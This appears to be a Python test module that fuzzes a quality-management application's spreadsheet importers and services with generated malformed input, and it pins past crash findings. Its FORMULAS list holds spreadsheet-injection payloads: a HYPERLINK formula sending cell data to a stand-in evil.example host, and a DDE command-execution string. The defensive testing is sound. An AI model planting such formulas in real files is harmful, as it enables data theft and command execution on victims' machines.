"""Property-based fuzzing of every importer and of the problem and scoring services.

Each fuzz test builds one database (SQLite, then PostgreSQL), loads the demo
plant AERO once and throws generated input at one entry point. The property
is the same everywhere: the call either succeeds (the input was genuinely
valid) or raises a ``NoacError`` with a message, and after a refusal every row
of every table is as it was. Any other exception is a crash, and a failure.

Most inputs start from a valid file or form with one or two fields broken
(a formula, a huge number, a 10k-character or NUL-laden string, random
unicode), so that they get past the header checks into the row and service
checks; the rest are broken as a whole (random bytes, wrong encodings, bad
headers, odd workbooks).

A default run is a few hundred cases per database with a fixed seed, so CI is
repeatable; ``pytest --fuzz-long`` multiplies every budget and draws at random.

Every crash fuzzing has found is pinned by an explicit case of ``FINDINGS``,
checked by ``test_fuzzing_findings_are_refused``.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import Engine, select
from sqlalchemy.engine import make_url
from sqlalchemy.exc import DBAPIError, IntegrityError
from sqlmodel import Session, SQLModel

from noac.db import create_db_engine, migrate
from noac.errors import ImportRejected, NoacError
from noac.importers import KINDS, import_file
from noac.models import DISPOSITIONS, SEVERITIES, UNIT_KINDS, QualityProblem
from noac.services import problems, scoring
from noac.services.plants import resolve_plant
from noac.services.problems import ProblemReport
from tests.conftest import (
    DATA,
    POSTGRES_URL,
    QUALITY,
    SYSTEM,
    _admin_connection,
    snapshot,
    supervisor,
)

AERO = DATA / "demo" / "aerospace"
TODAY = date(2026, 11, 20)
LONG_FACTOR = 25  # --fuzz-long: every budget times this, and a random seed
CRITERIA = ("quality", "delivery", "service", "handover")

_INT32 = 2**31


def _columns_of(exc: DBAPIError) -> tuple[str | None, list[dict]]:
    """The table a failed statement wrote or read, and its parameters as dicts."""
    match = re.match(
        r"\s*(?:INSERT INTO|UPDATE|DELETE FROM|SELECT .*? FROM)\s+\"?(\w+)",
        exc.statement or "",
        re.S,
    )
    params = exc.params
    if isinstance(params, dict):
        params = [params]
    rows = [p for p in params or [] if isinstance(p, dict)]
    return (match.group(1) if match else None), rows


def crash_signature(exc: BaseException) -> str:
    """A short, stable description of a crash: what failed, in which table and column."""
    if isinstance(exc, DBAPIError):
        table, rows = _columns_of(exc)
        message = str(exc.orig)
        columns = SQLModel.metadata.tables[table].columns if table else {}

        def offending(test: Callable[[str, object], bool]) -> list[str]:
            found = set()
            for row in rows:
                for key, value in row.items():
                    column = re.sub(r"(__\d+|_\d+)$", "", key)
                    if column in columns and test(column, value):
                        found.add(column)
            return sorted(found)

        if "NUL (0x00)" in message:
            bad = offending(lambda c, v: isinstance(v, str) and "\x00" in v)
            return f"NUL in {table}.{bad}"
        if "value too long" in message:
            bad = offending(
                lambda c, v: (
                    isinstance(v, str)
                    and columns[c].type.length is not None
                    and len(v) > columns[c].type.length
                )
            )
            return f"too long: {table}.{bad}"
        if "out of range" in message:
            bad = offending(lambda c, v: isinstance(v, int) and not -_INT32 <= v < _INT32)
            return f"out of range: {table}.{bad}"
        if isinstance(exc, IntegrityError):
            return f"integrity: {message.splitlines()[0]}"
        return f"{type(exc.orig).__name__}: {message.splitlines()[0]}"
    text = str(exc).splitlines()[0] if str(exc) else ""
    return f"{type(exc).__name__}: {text}"


# ---------------------------------------------------------------------------
# Running and checking


def _gist(error: NoacError) -> str:
    """The kind of a refusal, without the values it quotes."""
    reasons = (
        [e.reason for e in error.errors] if isinstance(error, ImportRejected) else [str(error)]
    )
    first = re.sub(r"'[^']*'|\d+", "_", reasons[0].split(";")[0])
    return first[:60]


class Guard:
    """Check one call: success, or a clear refusal that wrote nothing."""

    def __init__(self, engine, session):
        self.engine = engine
        self.session = session
        self.before = snapshot(engine)
        self.outcomes: Counter[str] = Counter()
        self.gists: Counter[str] = Counter()

    def check(self, call: Callable[[], object]) -> object:
        try:
            result = call()
        except NoacError as error:
            self.outcomes["refused"] += 1
            self.gists[_gist(error)] += 1
            self._refused(error)
            return None
        except Exception as exc:
            # roll back so that hypothesis shrinks a crash on a usable session
            # instead of reporting a cascade of follow-up errors
            self.session.rollback()
            exc.add_note(f"crash signature: {crash_signature(exc)}")
            raise
        self.outcomes["accepted"] += 1
        self.before = snapshot(self.engine)  # a valid input may write
        return result

    def _refused(self, error: NoacError) -> None:
        message = str(error)
        assert message.strip(), f"{type(error).__name__} without a message"
        if isinstance(error, ImportRejected):
            assert error.errors, "an import refused without a single error"
            assert all(e.reason.strip() for e in error.errors), error.errors
        after = snapshot(self.engine)
        changed = [table for table in after if after[table] != self.before.get(table)]
        assert not changed, f"refused ({message[:300]!r}) but tables changed: {changed}"
        # the refusal leaves the session usable for the next call
        assert self.session.execute(select(1)).scalar_one() == 1


def load_aero(session):
    """The demo plant AERO: units, defect codes and routings, imported as the administrator."""
    for kind, file in (
        ("units", "units.csv"),
        ("defect-codes", "defect_codes.csv"),
        ("routings", "routings.csv"),
    ):
        import_file(actor=SYSTEM, session=session, kind=kind, path=AERO / file, plant_code="AERO")
    return resolve_plant(session=session, code="AERO")


@pytest.fixture
def aero(session):
    return load_aero(session)


@pytest.fixture
def guard(engine, session, aero) -> Guard:
    return Guard(engine, session)


@pytest.fixture
def fuzz(request) -> Callable[..., None]:
    """Run a ``@given`` function with this run's budget (default or --fuzz-long)."""
    long = request.config.getoption("--fuzz-long")

    def run(test: Callable, guard: Guard, *, examples: int) -> None:
        settings(
            max_examples=examples * LONG_FACTOR if long else examples,
            deadline=None,  # PostgreSQL latency and big workbooks
            derandomize=not long,  # a fixed seed keeps CI repeatable
            database=None,  # no .hypothesis directory in the repository
            print_blob=long,
            suppress_health_check=[
                HealthCheck.function_scoped_fixture,
                HealthCheck.too_slow,
                HealthCheck.data_too_large,
                HealthCheck.large_base_example,
                HealthCheck.filter_too_much,
            ],
        )(test)()
        # what the cases came to (shown with pytest -s): are they reaching deep enough?
        print(f"\n{request.node.name}: {dict(guard.outcomes)}")
        for gist, count in guard.gists.most_common(12):
            print(f"  {count:5d}  refused: {gist}")
        assert guard.outcomes["refused"], f"nothing was ever refused: {dict(guard.outcomes)}"

    return run


# ---------------------------------------------------------------------------
# Cell values

UNITS = tuple(
    "STORE SHEET MACH WELD HEAT SURF ASSY TEST QC-SM QC-MA QC-WE QC-FIN LOGI ENG PLAN".split()
)
PARTS = ("BP-100", "ACT-200", "SH-300", "KIT-350")
CATEGORIES = ("storage", "cutting", "bending", "assembly", "inspection", "plating", "handling")
MONTHS = ("2026-03", "2026-10", "2026-13", "0000-01", "9999-12", "２０２６-03", "2026-3", "")
DATES = ("2026-03-10", "2026-02-30", "0001-01-01", "9999-12-31", "20260310", "2099-01-01", "")
NUMBERS = (
    "0",
    "1",
    "6",
    "8",
    "12",
    "-0",
    "-1",
    "0.5",
    "1e308",
    "1e309",
    "-1e308",
    "1" + "0" * 400,  # 10**400 as text
    "9" * 5000,  # beyond int()'s digit limit
    "nan",
    "NaN",
    "inf",
    "-inf",
    "Infinity",
    "1_000",
    "５",
    " 7 ",
    "0x10",
    "1e-400",
    "4294967296",
    "9223372036854775808",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=A1/0",
    "=STORE",
)
ODD = ("N\x00UL", "tab\there", "bell\x07", "\ufeffBOM", "rtl\u202eevil", "a\u2028b", "🙂", "  ")

# plausible values per column, so that generated rows reach the row checks
POOLS: dict[str, tuple[str, ...]] = {
    "code": (*UNITS, "NEW-1", "CORR", "PIT-FACE", "DIM", "bad code", "-X", "x" * 41),
    "name": ("New unit", "钣金分厂", "x" * 200, "x" * 201),
    "kind": (*UNIT_KINDS, "Workshop", "factory"),
    "categories": ("storage", "cutting;bending", "a;a", "bad cat", ";".join(["c" * 39] * 30)),
    "target": NUMBERS,
    "parent": (*UNITS, "NOPE", ""),
    "part": (*PARTS, "NEW-P", "a;b", "x" * 81),
    "op": ("10", "20", "60", "999", "a;b", "x" * 41),
    "unit": (*UNITS, "MOON"),
    "category": (*CATEGORIES, ""),
    "after": ("", "10", "10;10", "20", "999", "10;20", "30"),
    "inspection": ("0", "1", "true", "no", "maybe"),
    "origins": ("storage", "handling", "storage;handling", "handling;" * 200, "moon"),
    "id": ("D-1", "D-2", "AERO-000001", "AERO-000099", "", "x" * 41),
    "date": DATES,
    "found_at": UNITS,
    "severity": (*SEVERITIES, "Major", "grave"),
    "qty": NUMBERS,
    "description": ("pits on the plated face", "", "x" * 4000, "x" * 4001),
    "responsible": ("STORE:0.6;SHEET", "SHEET", "SHEET:0.5;SHEET:0.5", "STORE:1.5", "MOON", ""),
    "deadline": DATES,
    "closed_on": DATES,
    "lot": ("L1", "", "x" * 80, "x" * 81),
    "disposition": (*DISPOSITIONS, "burn", ""),
    "cost": NUMBERS,
    "month": MONTHS,
    "rater": (*UNITS, "MOON"),
    "ratee": (*UNITS, "MOON"),
    "criterion": (*CRITERIA, "speed", ""),
    "value": NUMBERS,
    "comment": ("", "why", "x" * 2000, "x" * 2001),
    "from": (*UNITS, "MOON"),
    "to": (*UNITS, "MOON"),
    "quantity": NUMBERS,
    "provider": (*UNITS, "MOON"),
    "customer": (*UNITS, "MOON"),
    "weight": NUMBERS,
}

control_text = st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp"]), max_size=20)
long_text = st.builds(
    lambda char, size: char * size,
    st.sampled_from(["x", "é", "中", "\x00", ";", ",", '"', "\n", "🙂"]),
    st.sampled_from([4001, 10_000, 10_050]),
)
nasty_text = st.one_of(
    st.sampled_from(FORMULAS + NUMBERS + ODD),
    st.text(),
    control_text,
    long_text,
    st.just(""),
)


def cell(column: str) -> st.SearchStrategy[str]:
    """A wrong or borderline cell for ``column``: a near miss, a formula, a number, any text."""
    pool = POOLS.get(column)
    if pool is None:
        return nasty_text
    return st.one_of(st.sampled_from(pool), st.sampled_from(pool), nasty_text)


def template(kind: str, i: int, tag: int) -> dict[str, str]:
    """Row ``i`` (0-3) of a valid ``kind`` file for the AERO plant.

    ``tag`` names the new part and the new problems, so that a file accepted
    once does not make every later variant a refused change of the same records.
    """
    other = ("SHEET", "MACH", "WELD", "HEAT")[i]
    return {
        "units": lambda: {
            "code": f"NEW-{i}",
            "name": f"new unit {i}",
            "kind": "workshop",
            "categories": "cutting;bending",
            "target": "90",
            "parent": "SHEET",
        },
        "defect-codes": lambda: {
            "code": f"NEWC-{i}",
            "name": f"new defect {i}",
            "origins": "storage;handling",
        },
        "routings": lambda: {
            "part": f"NP-{tag}",
            "op": str(10 * (i + 1)),
            "unit": ("STORE", "SHEET", "SHEET", "QC-SM")[i],
            "category": ("storage", "cutting", "bending", "inspection")[i],
            "after": str(10 * i) if i else "",
            "inspection": "1" if i == 3 else "0",
        },
        "defects": lambda: {
            "id": f"F-{tag}-{i}",
            "date": "2026-03-10",
            "found_at": "ASSY",
            "part": "BP-100",
            "severity": "major",
            "qty": "3",
            "op": "60",
            "code": "PIT-FACE",
            "description": "pits on the plated face",
            "responsible": "STORE:0.6;SHEET",
            "deadline": "2026-04-30",
            "closed_on": "",
            "lot": "L1",
            "disposition": "rework",
            "cost": "10.5",
        },
        "scores": lambda: {
            "month": "2026-03",
            "rater": "SHEET",
            "ratee": "STORE",
            "criterion": CRITERIA[i],
            "value": "8",
            "comment": "",
        },
        "handovers": lambda: {"month": "2026-03", "from": "STORE", "to": other, "quantity": "5"},
        "service-relations": lambda: {"provider": "ENG", "customer": other, "weight": "1"},
    }[kind]()


@st.composite
def header(draw, kind: str) -> list[str]:
    """The header of a ``kind`` file: usually right, sometimes broken on purpose."""
    spec = KINDS[kind]
    columns = [
        *spec.required,
        *draw(st.lists(st.sampled_from(spec.optional or ("",)), unique=True)),
    ]
    columns = [c for c in columns if c]
    mutation = draw(
        st.sampled_from(["none", "none", "none", "drop", "extra", "duplicate", "empty", "case"])
    )
    if mutation == "drop":
        columns.remove(draw(st.sampled_from(spec.required)))
    elif mutation == "extra":
        columns.append(draw(st.one_of(st.sampled_from(["colour", "note", " code"]), st.text())))
    elif mutation == "duplicate":
        columns.append(draw(st.sampled_from(columns)))
    elif mutation == "empty":
        columns.insert(draw(st.integers(0, len(columns))), "")
    elif mutation == "case":
        columns = [c.upper() for c in columns]
    return draw(st.permutations(columns))


@st.composite
def mutated_table(draw, kind: str) -> list[list[str]]:
    """A valid file of ``kind`` with one to three cells replaced by bad ones."""
    spec = KINDS[kind]
    optional = draw(st.sets(st.sampled_from(spec.optional))) if spec.optional else set()
    columns = [*spec.required, *(c for c in spec.optional if c not in optional)]
    tag = draw(st.integers(0, 10**6))
    rows = [template(kind, i, tag) for i in range(draw(st.integers(1, 4)))]
    for _ in range(draw(st.integers(1, 3))):
        row = draw(st.sampled_from(rows))
        column = draw(st.sampled_from(columns))
        row[column] = draw(cell(column))
    if draw(st.integers(0, 9)) == 9:  # and now and then a broken header
        columns = draw(header(kind))
    return [columns, *([row.get(c.lower(), "") for c in columns] for row in rows)]


@st.composite
def random_table(draw, kind: str) -> list[list[str]]:
    """A header and a few rows of cells drawn at random; rows may be short, long or repeated."""
    columns = draw(header(kind))
    rows: list[list[str]] = []
    for _ in range(draw(st.integers(0, 4))):
        row = [draw(cell(column.lower())) for column in columns]
        shape = draw(st.sampled_from(["same", "same", "same", "short", "long", "repeat"]))
        if shape == "short" and row:
            row = row[: draw(st.integers(0, len(row) - 1))]
        elif shape == "long":
            row.append(draw(nasty_text))
        elif shape == "repeat" and rows:
            row = list(rows[-1])
        rows.append(row)
    return [columns, *rows]


def table(kind: str) -> st.SearchStrategy[list[list[str]]]:
    return st.one_of(mutated_table(kind), mutated_table(kind), random_table(kind))


def csv_text(records: list[list[str]], style: str) -> str:
    if style == "raw":  # no quoting at all: cells with , " or newlines break the layout
        return "\n".join(",".join(record) for record in records)
    buffer = io.StringIO()
    if style == "semicolon":  # a European spreadsheet's export
        csv.writer(buffer, delimiter=";").writerows(records)
    else:
        csv.writer(buffer, lineterminator="\r\n" if style == "crlf" else "\n").writerows(records)
    return buffer.getvalue()


ENCODINGS = ("utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "latin-1", "gb18030", "cp1252")


@st.composite
def csv_file(draw, kind: str) -> bytes:
    """A CSV file of ``kind`` in some encoding, maybe cut short."""
    style = draw(st.sampled_from(["quoted", "quoted", "quoted", "crlf", "raw", "semicolon"]))
    data = csv_text(draw(table(kind)), style).encode(
        draw(st.sampled_from(ENCODINGS)), errors="replace"
    )
    if draw(st.integers(0, 19)) == 19 and data:  # truncated, maybe inside a character
        data = data[: draw(st.integers(0, len(data) - 1))]
    return data


def raw_bytes(kind: str) -> st.SearchStrategy[bytes]:
    """Files that are hardly files: random bytes, empty, BOM only, header only."""
    head = ",".join(KINDS[kind].required)
    return st.one_of(
        st.binary(max_size=2048),
        st.sampled_from(
            [
                b"",
                b"\xef\xbb\xbf",
                b"\n\n\r\n",
                b" , ,\n",
                b"\x00" * 64,
                b'"unterminated,quote\n',
                head.encode(),
                (head + "\n").encode("utf-16"),
                (head + "\n" + "é,ü,ß\n").encode("latin-1"),
                b"PK\x03\x04" + b"\x00" * 60,  # the start of a zip, nothing more
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 60,  # an old .xls
                ("x" * 200_000).encode(),  # one cell beyond the csv module's field limit
            ]
        ),
        st.text().map(lambda t: t.encode("utf-8")),
        st.text().map(lambda t: t.encode("utf-16")),
    )


xlsx_scalar = st.one_of(
    st.integers(min_value=-(10**20), max_value=10**20),
    st.sampled_from(["1" + "0" * 400, -(10**15), 0, -0.0, 1e308, -1e308, 5e-324]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(min_value=date(1900, 3, 1)),
    st.datetimes(min_value=datetime(1900, 3, 1)),
    st.times(),
    st.booleans(),
    st.none(),
    st.sampled_from(FORMULAS),
)


def _xlsx_value(value: object) -> object:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)  # openpyxl cannot store them at all
    return value


@st.composite
def xlsx_file(draw, kind: str) -> bytes:
    """A workbook: the rows of a table, some cells retyped as numbers, dates, formulas or None."""
    records = draw(table(kind))
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for _ in range(draw(st.integers(0, 2))):
        sheet.append([None])  # blank rows above the header
    for number, record in enumerate(records):
        values: list[object] = list(record)
        if number > 0:
            values = [v if draw(st.integers(0, 5)) else draw(xlsx_scalar) for v in values]
        sheet.append([_xlsx_value(v) for v in values])
    if draw(st.booleans()):
        second = workbook.create_sheet("other")  # only the first sheet counts
        second.append(["whatever", 1, None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# ---------------------------------------------------------------------------
# Importers

import_kinds = st.sampled_from(sorted(KINDS))


def _import(guard: Guard, session, kind: str, name: str, data: bytes, **extra) -> None:
    guard.check(
        lambda: import_file(
            session=session,
            kind=kind,
            path=name,
            actor=extra.get("actor", SYSTEM),
            plant_code=extra.get("plant_code", "AERO"),
            effective=extra.get("effective"),
            data=data,
        )
    )


def test_unreadable_files_are_refused_by_every_importer(session, guard, fuzz):
    @given(
        kind=import_kinds,
        name=st.sampled_from(["x.csv", "x.csv", "x.xlsx", "X.XLSX"]),
        data=st.data(),
    )
    def attempt(kind, name, data):
        _import(guard, session, kind, name, data.draw(raw_bytes(kind)))

    fuzz(attempt, guard, examples=40)


def test_malformed_csv_files_are_refused_cleanly(session, guard, fuzz):
    @given(kind=import_kinds, data=st.data())
    def attempt(kind, data):
        effective = data.draw(st.one_of(st.none(), st.dates()))
        _import(guard, session, kind, "x.csv", data.draw(csv_file(kind)), effective=effective)

    fuzz(attempt, guard, examples=150)


def test_malformed_xlsx_workbooks_are_refused_cleanly(session, guard, fuzz):
    @given(kind=import_kinds, data=st.data())
    def attempt(kind, data):
        _import(guard, session, kind, "x.xlsx", data.draw(xlsx_file(kind)))

    fuzz(attempt, guard, examples=60)


def test_plant_codes_kinds_and_roles_of_an_import_are_checked(session, aero, guard, fuzz):
    files = {
        "units": (AERO / "units.csv").read_bytes(),
        "defect-codes": (AERO / "defect_codes.csv").read_bytes(),
        "scores": b"month,rater,ratee,criterion,value\n2026-03,SHEET,STORE,quality,8\n",
    }

    @given(
        kind=st.one_of(st.sampled_from(sorted(files)), st.sampled_from(sorted(KINDS)), st.text()),
        plant_code=st.one_of(st.sampled_from(["AERO", "P2", None]), any_text),
        actor=st.one_of(st.just(SYSTEM), actors(aero)),
    )
    def attempt(kind, plant_code, actor):
        data = files.get(kind, b"")
        _import(guard, session, kind, "x.csv", data, plant_code=plant_code, actor=actor)

    fuzz(attempt, guard, examples=40)


# ---------------------------------------------------------------------------
# Services

any_text = st.one_of(
    st.text(), control_text, long_text, st.sampled_from(FORMULAS + ODD + ("", "x" * 41))
)
quantities = st.one_of(
    st.integers(-3, 20),
    st.integers(),
    st.sampled_from([0, -1, 10**9, 2**31 - 1, 2**31, 2**63, 10**30]),
)


def actors(plant) -> st.SearchStrategy:
    return st.one_of(
        st.just(QUALITY),
        st.builds(lambda unit: supervisor(plant, unit), st.sampled_from(UNITS)),
        st.builds(lambda unit: supervisor(plant, unit, "inspector"), st.sampled_from(UNITS)),
        st.just(SYSTEM),
    )


@st.composite
def mutated(draw, baseline: dict, changes: dict[str, st.SearchStrategy], rare=("actor",)) -> dict:
    """``baseline`` with one or two of its fields drawn from ``changes``.

    The ``rare`` fields (who acts, which problem) change a third as often as the
    others, so that most cases get past the permission check.
    """
    names = [n for n in sorted(changes) for _ in range(1 if n in rare else 3)]
    values = dict(baseline)
    for name in draw(st.sets(st.sampled_from(names), min_size=1, max_size=2)):
        values[name] = draw(changes[name])
    return values


REPORT = {
    "found_on": date(2026, 3, 10),
    "found_at": "ASSY",
    "part": "BP-100",
    "severity": "major",
    "quantity": 12,
    "op": "60",
    "defect_code": "PIT-FACE",
    "description": "pits on the plated face",
    "disposition": None,
    "cost": None,
    "lot": None,
    "ref": None,
}
REPORT_CHANGES = {
    "found_on": st.one_of(
        st.dates(), st.sampled_from([date(2026, 11, 21), date(2026, 6, 1), date.min, date.max])
    ),
    "found_at": st.one_of(st.sampled_from(UNITS), any_text),
    "part": st.one_of(st.sampled_from(PARTS), any_text),
    "severity": st.one_of(st.sampled_from((*SEVERITIES, "Major")), any_text),
    "quantity": quantities,
    "op": st.one_of(st.none(), st.sampled_from(["10", "40", "70", "", "x" * 41]), any_text),
    "defect_code": st.one_of(st.none(), st.sampled_from(["CORR", "DIM", "x" * 41]), any_text),
    "description": st.one_of(st.sampled_from(["x" * 4000, "x" * 4001]), any_text),
    "disposition": st.one_of(st.none(), st.sampled_from(DISPOSITIONS), any_text),
    "cost": st.one_of(st.none(), st.floats(), st.sampled_from([-1.0, 0.0, 1e308])),
    "lot": st.one_of(st.none(), st.sampled_from(["x" * 80, "x" * 81]), any_text),
    "ref": st.one_of(st.sampled_from(["AERO-000001", "AERO-000050", "x" * 40, "x" * 41]), any_text),
}


def test_report_problem_refuses_any_bad_form_cleanly(session, aero, guard, fuzz):
    @given(fields=mutated(REPORT, REPORT_CHANGES), data=st.data())
    def attempt(fields, data):
        report = ProblemReport(**fields)
        actor = data.draw(
            st.one_of(st.just(QUALITY), st.just(supervisor(aero, report.found_at)), actors(aero))
        )
        guard.check(
            lambda: problems.report_problem(
                session=session, plant=aero, report=report, actor=actor, today=TODAY
            )
        )

    fuzz(attempt, guard, examples=80)


SHARE_TEXTS = ("0.6", "0.4", "1", "0", "-0", "0.5", "1e308", "nan", "inf", "1e-400", "", "x")
share_items = st.builds(
    lambda unit, share: unit if share is None else f"{unit}:{share}",
    st.one_of(st.sampled_from(UNITS), st.text(max_size=6)),
    st.one_of(st.none(), st.sampled_from(SHARE_TEXTS), st.floats().map(str), st.text(max_size=6)),
)
milestone_lists = st.lists(
    st.one_of(
        st.builds(lambda day, what: f"{day}:{what}", st.dates(), st.text()),
        st.sampled_from(
            ["2026-04-15:check", "soon", "2026-02-30:x", ":", "2026-04-15:" + "m" * 4000]
        ),
        any_text,
    ),
    max_size=6,
)


def test_rule_problem_refuses_any_bad_ruling_cleanly(engine, session, aero, fuzz):
    problem, _ = problems.report_problem(
        session=session,
        plant=aero,
        report=ProblemReport(**REPORT),
        actor=QUALITY,
        today=TODAY,
    )
    guard = Guard(engine, session)
    baseline = {
        "ref": problem.ref,
        "shares": "STORE:0.6;SHEET",
        "reason": "neither unit knew the downstream need",
        "actor": QUALITY,
        "deadline": None,
        "milestones": [],
    }
    changes = {
        "ref": any_text,
        "shares": st.one_of(st.lists(share_items, max_size=4).map(";".join), st.text()),
        "reason": st.one_of(st.sampled_from(["", "  ", "x" * 4000, "x" * 4001]), any_text),
        "actor": actors(aero),
        "deadline": st.dates(),
        "milestones": milestone_lists,
    }

    @given(fields=mutated(baseline, changes, rare=("actor", "ref")))
    def attempt(fields):
        guard.check(lambda: problems.rule_problem(session=session, plant=aero, **fields))

    fuzz(attempt, guard, examples=80)


form_values = st.one_of(
    st.integers(0, 10), st.integers(), st.sampled_from([-1, 11, 2**31, 2**63, -(10**30)])
)


@st.composite
def changed_values(draw) -> dict:
    values: dict = dict.fromkeys(CRITERIA, 8)
    change = draw(st.sampled_from(["value", "drop", "extra", "random"]))
    if change == "value":
        values[draw(st.sampled_from(CRITERIA))] = draw(form_values)
    elif change == "drop":
        del values[draw(st.sampled_from(CRITERIA))]
    elif change == "extra":
        values[draw(st.one_of(st.sampled_from(["speed", "Quality", ""]), any_text))] = 5
    else:
        values = draw(st.dictionaries(st.one_of(st.sampled_from(CRITERIA), any_text), form_values))
    return values


def test_submit_form_refuses_any_bad_form_cleanly(session, aero, guard, fuzz):
    baseline = {
        "month": "2026-03",
        "rater": "SHEET",
        "ratee": "STORE",
        "values": dict.fromkeys(CRITERIA, 8),
        "comments": {},
        "actor": None,  # the rater's supervisor
    }
    changes = {
        "month": st.one_of(st.sampled_from((*MONTHS, "2026-03\n", " 2026-03")), any_text),
        "rater": st.one_of(st.sampled_from(UNITS), any_text),
        "ratee": st.one_of(st.sampled_from(UNITS), any_text),
        "values": changed_values(),
        "comments": st.dictionaries(
            st.one_of(st.sampled_from(CRITERIA), any_text),
            st.one_of(st.sampled_from(["x" * 2000, "x" * 2001]), any_text),
            max_size=4,
        ),
        "actor": actors(aero),
    }

    @given(fields=mutated(baseline, changes))
    def attempt(fields):
        actor = fields.pop("actor") or supervisor(aero, fields["rater"])
        guard.check(lambda: scoring.submit_form(session=session, plant=aero, actor=actor, **fields))

    fuzz(attempt, guard, examples=80)


# ---------------------------------------------------------------------------
# The bugs the fuzzing found, as explicit examples


def _csv(kind: str, content: str, plant_code: str = "AERO") -> Callable:
    def call(session, plant):
        return import_file(
            session=session,
            kind=kind,
            path="x.csv",
            actor=SYSTEM,
            plant_code=plant_code,
            data=content.encode(),
        )

    return call


def _report(**fields) -> Callable:
    def call(session, plant):
        return problems.report_problem(
            session=session,
            plant=plant,
            report=ProblemReport(**(REPORT | fields)),
            actor=QUALITY,
            today=TODAY,
        )

    return call


def _rule(**fields) -> Callable:
    def call(session, plant):
        ref = session.execute(select(QualityProblem.ref)).scalars().first()
        values = {"shares": "SHEET", "reason": "r", "actor": QUALITY} | fields
        return problems.rule_problem(session=session, plant=plant, ref=ref, **values)

    return call


def _submit(month: str = "2026-03", comments: dict | None = None) -> Callable:
    def call(session, plant):
        return scoring.submit_form(
            session=session,
            plant=plant,
            month=month,
            rater="SHEET",
            ratee="STORE",
            values=dict.fromkeys(CRITERIA, 8),
            comments=comments,
            actor=supervisor(plant, "SHEET"),
        )

    return call


@dataclass(frozen=True)
class Finding:
    """An input fuzzing once crashed on: ``call`` must now be refused with a
    ``NoacError`` whose message matches ``refusal``, and write nothing."""

    case: str
    call: Callable
    refusal: str
    setup: Callable | None = None


FINDINGS = [
    # Text with NUL is accepted anywhere; PostgreSQL cannot store it (DataError), SQLite does.
    Finding("nul-in-text", _csv("units", "code,name,kind\nNEW-1,a\x00b,workshop\n"), "name"),
    Finding("nul-in-text", _report(description="pits\x00"), "description"),
    # validate_defect_code_rows checks neither the name's length (200) nor the length of the
    # joined origins (1000; repeated origins are not even deduplicated): DataError on PostgreSQL
    Finding(
        "defect-code-name-or-origins-too-long",
        _csv("defect-codes", f"code,name,origins\nN1,{'x' * 201},\nN2,n," + "handling;" * 120),
        "row 2, column 'name': name is longer than 200",  # repeated origins are merged
    ),
    # validate_unit_rows does not check the length of the joined categories (1000)
    Finding(
        "unit-categories-too-long",
        _csv(
            "units",
            "code,name,kind,categories\nN,n,workshop,"
            + ";".join(f"c{i:02d}" + "x" * 37 for i in range(30)),
        ),
        "categor",
    ),
    # plant_for_import added any plant code: no check_code, no length check (varchar(40));
    # an import now names a plant the database holds (only the first adds one, checked)
    Finding(
        "plant-code-unchecked",
        _csv("units", "code,name,kind\nA,a,store\n", "bad code " + "x" * 40),
        "plant",
    ),
    # report_problem: the ref is not length-checked (varchar(40)); nor is the quantity bounded
    # (PostgreSQL integer, SQLite 64 bits) while the defects import caps it at 1e9
    Finding("report-ref-too-long", _report(ref="R" * 41), "id|ref"),
    Finding("report-quantity-unbounded", _report(quantity=2**31), "qty|quantity"),
    # rule_problem: the reason (event note and audit reason, 4000) and the milestones
    # (JSON, 20000) are not length-checked
    Finding("ruling-reason-too-long", _rule(reason="r" * 4001), "reason", setup=_report()),
    Finding(
        "ruling-milestones-too-long",
        _rule(milestones=[f"2026-04-{d:02d}:" + "m" * 3000 for d in range(1, 9)]),
        "milestone",
        setup=_report(),
    ),
    # periods.parse_month: year 0000 passes, then month_days raises ValueError
    Finding("month-year-0000", _submit(month="0000-01"), "month"),
    # parse_month's "$" matches before a trailing newline: an 8-character month
    Finding("month-with-trailing-newline", _submit(month="2026-03\n"), "month"),
    # parse_month's \d matches any Unicode digit: '２０２６-03' is stored as a month
    Finding(
        "month-with-non-ascii-digits",
        _csv("handovers", "month,from,to,quantity\n２０２６-03,STORE,SHEET,5"),
        "month",
    ),
    # a repeated predecessor ("10;10") made two identical operation links: IntegrityError
    Finding(
        "routing-duplicate-predecessor",
        _csv(
            "routings",
            "part,op,unit,category,after,inspection\n"
            "NP,10,STORE,storage,,0\nNP,20,SHEET,cutting,10;10,0",
        ),
        "listed twice",
    ),
    # a ref given explicitly could equal a later generated one (PLANT-{id:06d})
    Finding(
        "explicit-ref-collides-with-generated-ref", _report(ref="AERO-000123"), "given by NOAC"
    ),
]


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def bug_engine(request, tmp_path_factory) -> Iterator[Engine]:
    """One database per backend with the AERO plant, shared by the findings.

    A PostgreSQL database costs a second to create and migrate; the cases are
    refusals or crashes that roll back, and what a still-buggy case lets
    through (a unit, a handover) does not matter to the others.
    """
    name = None
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('bugs') / 'noac.db'}"
    else:
        if not request.getfixturevalue("postgres_available"):
            pytest.skip(f"PostgreSQL at {POSTGRES_URL} is unreachable")
        name = f"noac_test_{uuid.uuid4().hex[:12]}"
        with _admin_connection() as connection:
            connection.execute(f'CREATE DATABASE "{name}"')
        url = make_url(POSTGRES_URL).set(database=name).render_as_string(hide_password=False)
    engine = create_db_engine(url)
    migrate(engine)
    with Session(engine, expire_on_commit=False) as session:
        load_aero(session)
    yield engine
    engine.dispose()
    if name is not None:
        with _admin_connection() as connection:
            connection.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.mark.parametrize("bug", FINDINGS, ids=[b.case for b in FINDINGS])
